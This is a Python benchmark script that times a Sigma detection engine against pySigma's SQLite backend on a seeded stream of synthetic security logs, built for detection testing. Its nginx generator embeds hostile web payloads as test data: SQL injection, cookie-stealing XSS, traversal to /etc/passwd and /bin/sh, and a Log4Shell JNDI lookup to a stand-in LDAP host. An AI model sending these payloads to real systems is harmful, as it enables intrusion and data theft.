"""Detection throughput on one core: events/s through the Sigma engine, against pySigma's SQLite backend.

Rules: the whole SigmaHQ corpus (``rules``, ``rules-emerging-threats``, ``rules-threat-hunting``
from ``../shared/corpus/sigmahq``) plus our pack (``rules/sigma``, when present), loaded by
``DetectionEngine.from_paths`` with the ``shaowang_ecs`` pipeline, as ``soc run`` loads them.

Workload (deterministic, seeded): a mixed stream as an extranet sees it — Huawei USG and H3C
SecPath firewall permits/denies and sessions, the boxes' IPS detections, nginx access lines
(about 3 % SQL injection, XSS, traversal and scanner requests), Squid proxy lines, and Suricata
EVE (alert, flow, dns, http, tls). Every raw line goes through ``collectors.parse.parse_record``,
so the events are exactly what production detects on.

Ours: ``engine.process(batch)`` over the stream in batches of 5,000 (a parse worker's chunk),
each pass on a fresh engine (empty dedup and correlation state), dedup on as in production.

Baseline in the same run, over the same events and the same rule files: each rule converted by
pySigma's SQLite backend with the same ``shaowang_ecs`` pipeline, the events stored in in-memory
SQLite tables (one ``TEXT COLLATE NOCASE`` column per flat ECS field, as Zircolite builds them;
a list is stored as its only element or as JSON), one table per logsource route, and each query
run on the tables its logsource admits — the routing our engine does, so both sides evaluate
the same rule/event pairs. Building blocks of correlation rules run as standalone queries (our
engine evaluates them for its windows); the correlations themselves are not run there. Where a
field holds a list (``event.type``, ``related.ip``) the row has JSON text, so a rule that tests
one element reads it differently there (Sigma: any element matches). Its figure is events /
(time to run every query over its tables); building the tables is not counted. The backend
refuses keyword rules and placeholders without values, so it runs fewer rules.

The process pins itself to one CPU. Figures are medians of ``--repeats`` passes (the machine is
shared; compare ratios, not absolute numbers across runs).

Run: ``.venv/bin/python bench/detect.py [--events 50000] [--repeats 3]``
"""

from __future__ import annotations

import argparse
import gc
import json
import os
import random
import re
import sqlite3
import statistics
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from parse import RECEIVED_AT, eve_lines, h3c_lines, huawei_lines
from sigma.backends.sqlite import sqlite as sqlite_backend_module
from sigma.collection import SigmaCollection
from sigma.rule import SigmaRule

from collectors.parse import parse_record
from detectors.sigma.engine import DetectionEngine
from detectors.sigma.logsources import event_keys, rule_keys
from detectors.sigma.pipeline import shaowang_ecs
from detectors.sigma.rules import rule_files
from soc_core.events import Event
from soc_core.records import RawRecord

PROJECT = Path(__file__).resolve().parents[1]
SIGMAHQ = PROJECT / ".." / "shared" / "corpus" / "sigmahq"
SIGMAHQ_DIRS = ("rules", "rules-emerging-threats", "rules-threat-hunting")
PACK = PROJECT / "rules" / "sigma"
CHUNK = 5_000
TARGET, STRETCH = 20_000, 50_000
_backend_class: Any = sqlite_backend_module.sqliteBackend  # untyped upstream

# -- the stream ----------------------------------------------------------------------------------

_ATTACKS = (
    "/item.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "/download?file=../../../../etc/passwd",
    "/index.php?page=php://filter/convert.base64-encode/resource=index",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/wp-login.php?action=lostpassword&user=admin'%20or%201=1--",
    "/api/v1/users?name=${jndi:ldap://198.51.100.9/a}",
)
_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/130.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 Version/17.1 Safari/605.1.15",
    "curl/8.4.0",
)
_SCANNERS = ("sqlmap/1.7.11#stable (https://sqlmap.org)", "Nikto/2.5.0", "masscan/1.3")


def _ip(rng: random.Random, net: str) -> str:
    return f"{net}.{rng.randint(1, 254)}"


def nginx_lines(rng: random.Random, n: int) -> list[str]:
    """Combined-format access lines; about 3 % are attacks or scanners."""
    out: list[str] = []
    for i in range(n):
        second = i // 50
        stamp = f"27/Nov/2026:{16 + second // 3600 % 8:02d}:{second // 60 % 60:02d}:{second % 60:02d} +0800"
        attack = rng.random() < 0.03
        path = (
            rng.choice(_ATTACKS) if attack else f"/news/{rng.randint(1, 9999)}.html?page={rng.randint(1, 9)}"
        )
        agent = rng.choice(_SCANNERS) if attack and rng.random() < 0.5 else rng.choice(_AGENTS)
        status = rng.choice((403, 404, 500)) if attack else rng.choice((200, 200, 200, 304, 404))
        out.append(
            f'{_ip(rng, "203.0.113")} - - [{stamp}] "GET {path} HTTP/1.1" {status} {rng.randint(90, 90000)} '
            f'"https://www.example.com/" "{agent}"'
        )
    return out


_PROXY_HOSTS = ("www.example.com", "cdn.example.net", "updates.example.org", "mail.example.com")


def squid_lines(rng: random.Random, n: int) -> list[str]:
    """Squid native access lines: mostly browsing, some downloads of executables and scripts."""
    out: list[str] = []
    for i in range(n):
        host = rng.choice(_PROXY_HOSTS)
        if rng.random() < 0.02:
            path, mime = rng.choice(
                (("/files/setup.exe", "application/octet-stream"), ("/a/run.ps1", "text/plain"))
            )
        else:
            path, mime = f"/static/{rng.randint(1, 999)}.js", "application/javascript"
        method, url = ("CONNECT", f"{host}:443") if rng.random() < 0.4 else ("GET", f"http://{host}{path}")
        code = rng.choice(("TCP_MISS/200", "TCP_TUNNEL/200", "TCP_DENIED/403", "TCP_HIT/200"))
        out.append(
            f"{RECEIVED_AT + i / 50:.3f} {rng.randint(1, 900)} {_ip(rng, '192.0.2')} {code} "
            f"{rng.randint(200, 900000)} {method} {url} - HIER_DIRECT/{_ip(rng, '198.51.100')} {mime}"
        )
    return out


def _parsed(lines: list[str], dataset: str) -> list[Event]:
    events: list[Event] = []
    for number, line in enumerate(lines):
        record = RawRecord(
            data=line.encode(),
            received_at=RECEIVED_AT,
            origin="syslog/udp",
            peer="192.0.2.1:514",
            offset=number,
        )
        outcome = parse_record(record, fmt=dataset)
        if outcome.dead_letter is not None:
            raise SystemExit(f"{dataset}: dead letter: {outcome.dead_letter.error}\n  {line}")
        events.extend(outcome.events)
    return events


def mixed_stream(n: int, seed: int = 20261127) -> tuple[list[Event], dict[str, int]]:
    """``n`` events in a fixed mix, interleaved deterministically as they arrive on a collector."""
    rng = random.Random(seed)
    shares: tuple[tuple[str, float, Callable[[int], list[str]]], ...] = (
        ("huawei.usg", 0.20, lambda k: huawei_lines(rng, k)),
        ("h3c.secpath", 0.15, lambda k: h3c_lines(rng, k)),
        ("huawei.usg", 0.02, lambda k: huawei_lines(rng, k, ips=True)),
        ("h3c.secpath", 0.02, lambda k: h3c_lines(rng, k, ips=True)),
        ("nginx.access", 0.21, lambda k: nginx_lines(rng, k)),
        ("squid.access", 0.15, lambda k: squid_lines(rng, k)),
        ("suricata.eve", 0.25, lambda k: eve_lines(rng, k)),
    )
    events: list[Event] = []
    for dataset, share, make in shares:
        events.extend(_parsed(make(max(1, round(n * share))), dataset))
    rng.shuffle(events)
    events = events[:n]
    mix: dict[str, int] = {}
    for event in events:
        name = event.event.dataset or "?"
        mix[name] = mix.get(name, 0) + 1
    return events, mix


# -- ours ------------------------------------------------------------------------------------------


def _timed(fn: Callable[[], object], repeats: int) -> float:
    times: list[float] = []
    for _ in range(repeats):
        started = time.perf_counter()
        fn()
        times.append(time.perf_counter() - started)
    return statistics.median(times)


def run_engine(engine: DetectionEngine, events: Sequence[Event]) -> tuple[int, int]:
    """(alerts, rule matches) of one pass over ``events`` on a fresh engine."""
    fresh = engine.fresh()
    alerts = 0
    for start in range(0, len(events), CHUNK):
        alerts += len(fresh.process(events[start : start + CHUNK]))
    return alerts, sum(loaded.stats.matches for loaded in fresh.rules)


# -- the SQLite baseline -----------------------------------------------------------------------------


def _route_keys(event: Event) -> frozenset[str]:
    """The logsource keys of an event, as the engine routes it."""
    info, observer = event.event, event.observer
    return event_keys(
        dataset=info.dataset,
        categories=tuple(info.category or ()),
        kind=info.kind,
        observer_type=observer.type if observer is not None else None,
        has_dns=event.dns is not None and event.dns.question is not None,
        has_url=event.url is not None,
    )


def _regexp(pattern: str | None, value: Any) -> int | None:
    if pattern is None or value is None:
        return None
    return int(_regex(pattern).search(value if isinstance(value, str) else str(value)) is not None)


_REGEXES: dict[str, re.Pattern[str]] = {}


def _regex(pattern: str) -> re.Pattern[str]:
    found = _REGEXES.get(pattern)
    if found is None:
        found = _REGEXES[pattern] = re.compile(pattern)
    return found


def _stored(value: Any) -> Any:
    if isinstance(value, list):
        if len(value) == 1 and not isinstance(value[0], dict | list):
            return _stored(value[0])
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, dict):
        return json.dumps(value, ensure_ascii=False)
    if isinstance(value, bool):
        return "true" if value else "false"
    return value


@dataclass
class Baseline:
    """Converted queries grouped by the event route (table) they run on."""

    connection: sqlite3.Connection
    plans: list[tuple[str, list[str]]] = field(default_factory=list)  # (table, queries)
    converted: int = 0
    refused: dict[str, int] = field(default_factory=dict)

    def run(self) -> int:
        rows = 0
        for _table, queries in self.plans:
            for query in queries:
                rows += len(self.connection.execute(query).fetchall())
        return rows


def _quote(name: str) -> str:
    return "`" + name.replace("`", "``") + "`"


def build_baseline(paths: Sequence[Path], events: Sequence[Event]) -> Baseline:
    """Every rule converted with ``shaowang_ecs``; one table per route of the stream."""
    backend = _backend_class(processing_pipeline=shaowang_ecs())
    converted: list[tuple[frozenset[str], list[str], set[str]]] = []
    refused: dict[str, int] = {}
    for path in rule_files(paths):
        try:
            collection = SigmaCollection.from_yaml(path.read_text("utf-8"), collect_errors=True)
        except Exception as exc:  # counted like the engine counts its refusals
            refused[type(exc).__name__] = refused.get(type(exc).__name__, 0) + 1
            continue
        for rule in collection.rules:
            if not isinstance(rule, SigmaRule) or rule.errors:
                continue
            # a correlation's building block is evaluated standalone, as the engine does for its windows
            rule._output = True
            logsource = rule.logsource
            keys = rule_keys(
                category=logsource.category, product=logsource.product, service=logsource.service
            )
            try:
                queries = [str(q) for q in backend.convert_rule(rule)]
            except Exception as exc:
                reason = type(exc).__name__
                refused[reason] = refused.get(reason, 0) + 1
                continue
            fields = set(backend.required_fields(rule))
            converted.append((keys, queries, fields))
    groups: dict[frozenset[str], list[Event]] = {}
    for event in events:
        groups.setdefault(_route_keys(event), []).append(event)
    connection = sqlite3.connect(":memory:")
    connection.create_function("regexp", 2, _regexp, deterministic=True)
    baseline = Baseline(connection, converted=len(converted), refused=refused)
    for number, (keys, members) in enumerate(sorted(groups.items(), key=lambda kv: sorted(kv[0]))):
        routed = [(queries, fields) for rule_keys_, queries, fields in converted if rule_keys_ <= keys]
        if not routed:
            continue
        flats = [event.to_flat() for event in members]
        columns = sorted({name for flat in flats for name in flat} | {f for _, fs in routed for f in fs})
        columns = list({c.lower(): c for c in columns}.values())  # SQLite column names ignore case
        table = f"logs{number}"
        spec = ", ".join(f"{_quote(c)} TEXT COLLATE NOCASE" for c in columns)
        connection.execute(f"CREATE TABLE {table} ({spec})")
        marks = ", ".join("?" * len(columns))
        connection.executemany(
            f"INSERT INTO {table} VALUES ({marks})", [[_stored(f.get(c)) for c in columns] for f in flats]
        )
        head = "SELECT * FROM logs WHERE "
        queries = ["SELECT rowid FROM " + table + " WHERE " + q[len(head) :] for qs, _ in routed for q in qs]
        baseline.plans.append((table, queries))
    return baseline


# -- main ------------------------------------------------------------------------------------------


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--events", type=int, default=50_000)
    parser.add_argument("--repeats", type=int, default=3)
    args = parser.parse_args()
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {sorted(os.sched_getaffinity(0))[0]})
    paths = [SIGMAHQ / name for name in SIGMAHQ_DIRS if (SIGMAHQ / name).is_dir()]
    if not paths:
        raise SystemExit(f"SigmaHQ corpus not found under {SIGMAHQ}")
    if PACK.is_dir() and any(rule_files([PACK])):
        paths.append(PACK)
    events, mix = mixed_stream(args.events)
    print(f"{len(events):,} events: " + ", ".join(f"{name} {count:,}" for name, count in sorted(mix.items())))

    started = time.perf_counter()
    engine = DetectionEngine.from_paths(paths)
    report = engine.report
    live = sum(loaded.live for loaded in engine.rules)
    routed_rules = {n for keys in {_route_keys(e) for e in events} for n in _admitted(engine, keys)}
    print(
        f"ours: {report.files:,} files, {report.rules:,} rules, {report.compiled:,} compiled "
        f"({report.correlations} correlations), {len(report.failed)} refused, {live:,} live, "
        f"{len(routed_rules):,} routed to this stream; loaded in {time.perf_counter() - started:.1f}s"
    )
    started = time.perf_counter()
    baseline = build_baseline(paths, events)
    queries = sum(len(q) for _, q in baseline.plans)
    refused = ", ".join(f"{k} {v}" for k, v in sorted(baseline.refused.items()))
    print(
        f"sqlite: {baseline.converted:,} rules converted ({refused or 'none'} refused), "
        f"{queries:,} queries over {len(baseline.plans)} route tables; "
        f"built in {time.perf_counter() - started:.1f}s"
    )

    gc.collect()
    gc.freeze()
    alerts, matches = run_engine(engine, events)
    rows = baseline.run()
    ours = len(events) / _timed(lambda: run_engine(engine, events), args.repeats)
    theirs = len(events) / _timed(baseline.run, args.repeats)
    print(
        f"ours:   {ours:>10,.0f} events/s  ({1e6 / ours:.1f} µs/event; "
        f"{matches:,} rule matches, {alerts:,} alerts)"
    )
    print(f"sqlite: {theirs:>10,.0f} events/s  ({1e6 / theirs:.1f} µs/event; {rows:,} matching rows)")
    met = "met" if ours >= TARGET else "NOT met"
    print(
        f"ratio ours/sqlite {ours / theirs:.1f}; target {TARGET:,} events/s: {met} "
        f"(stretch {STRETCH:,}: {'met' if ours >= STRETCH else 'not met'}); "
        f"median of {args.repeats}, one core"
    )


def _admitted(engine: DetectionEngine, keys: frozenset[str]) -> list[int]:
    return [n for n, loaded in enumerate(engine.rules) if loaded.compiled.keys <= keys]


if __name__ == "__main__":
    main()
